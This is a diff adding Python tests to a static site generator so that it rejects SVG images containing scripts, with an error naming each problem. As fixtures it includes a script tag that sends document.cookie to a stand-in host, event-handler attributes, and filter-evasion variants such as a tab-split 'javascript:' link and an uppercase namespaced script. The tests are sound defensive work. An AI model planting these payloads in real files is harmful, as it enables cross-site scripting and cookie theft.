@@ -283,6 +283,41 @@ def test_social_urls_of_a_lead_photo_and_of_a_remote_one() -> None:
             "unsupported image format HEIF/HEIC: export it as JPEG",
         ),
         ("bagan.svg", b"<html>not a drawing</html>", "not an SVG file"),
+        (
+            "bagan.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><g></svg>',
+            "not well-formed XML (mismatched tag at line 1)",
+        ),
+        (
+            "bagan.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">\n<rect/>\n'
+            b"<script>fetch('//x.example/?'+document.cookie)</script></svg>",
+            "holds a script (<script> at line 3), which a browser runs when the file is "
+            "opened: remove it",
+        ),
+        (
+            "bagan.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">\n'
+            b'<rect width="9" height="9" OnLoad="alert(1)"/></svg>',
+            "holds a script (the event attribute OnLoad= at line 2), which a browser runs "
+            "when the file is opened: remove it",
+        ),
+        (  # browsers ignore blanks within the scheme; the parser turns &#9; into a tab
+            "bagan.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"'
+            b' viewBox="0 0 9 9"><a x:href=" Java&#9;Script:alert(1)"><text>Bagan</text></a>'
+            b"</svg>",
+            "holds a script (a javascript: address at line 1), which a browser runs when the "
+            "file is opened: remove it",
+        ),
+        (  # HTML within the drawing counts too, and names are taken in any case
+            "bagan.svg",
+            b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><foreignObject>'
+            b'<h:SCRIPT xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:SCRIPT>'
+            b"</foreignObject></svg>",
+            "holds a script (<script> at line 1), which a browser runs when the file is "
+            "opened: remove it",
+        ),
     ],
 )
 def test_probe_names_what_is_wrong(name: str, data: bytes, problem: str) -> None:
@@ -301,6 +336,16 @@ def test_probe_reads_upright_size_transparency_and_animation() -> None:
     gif = images.probe("d.gif", animated_gif())
     assert (gif.format, gif.animated, gif.width) == ("GIF", True, 120)
     assert (images.probe("e.svg", SVG).width, images.probe("e.svg", SVG).height) == (640, 360)
+    # A chart tool's export: HTML text within the drawing, links, an "on..." word as text.
+    chart = (
+        b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
+        b'xmlns:xlink="http://www.w3.org/1999/xlink" width="480" height="270">'
+        b'<foreignObject width="480" height="40"><div xmlns="http://www.w3.org/1999/xhtml">'
+        b"Harga cabai, onload dan script</div></foreignObject>"
+        b'<a xlink:href="https://wartamusi.example/"><text x="9" y="60">Sumber</text></a>'
+        b'<rect width="9" height="9" opacity="0.5"/></svg>'
+    )
+    assert (images.probe("f.svg", chart).error, images.probe("f.svg", chart).width) == (None, 480)
 
 
 # Whole sites.
@@ -615,6 +660,29 @@ def test_every_bad_photo_is_one_error_with_article_line_and_photo(make_site: Sit
         build_site(site)
     assert sorted(e.message for e in caught.value.errors) == sorted(expected)
     assert not (site / "public").exists()
+
+
+def test_an_svg_with_a_script_stops_the_build_and_leaves_the_site_as_it_was(
+    make_site: SiteMaker,
+) -> None:
+    site = make_site(
+        {
+            A: article(body="Paragraf.\n\n![Bagan](/images/bagan.svg)"),
+            "content/images/bagan.svg": SVG,
+        }
+    )
+    build_site(site)
+    published = {p: p.read_bytes() for p in (site / "public").rglob("*") if p.is_file()}
+    drawing = site / "content/images/bagan.svg"
+    drawing.write_bytes(SVG.replace(b"></svg>", b'><rect onclick="alert(1)"/></svg>'))
+    with pytest.raises(BuildFailed) as caught:
+        build_site(site)
+    assert [e.message for e in caught.value.errors] == [
+        f"{A}:10: photo: unusable photo content/images/bagan.svg: holds a script (the event "
+        "attribute onclick= at line 2), which a browser runs when the file is opened: remove it "
+        "(got '/images/bagan.svg')"
+    ]
+    assert {p: p.read_bytes() for p in (site / "public").rglob("*") if p.is_file()} == published
 
 
 def test_narrow_lead_photo_is_a_warning(make_site: SiteMaker) -> None:
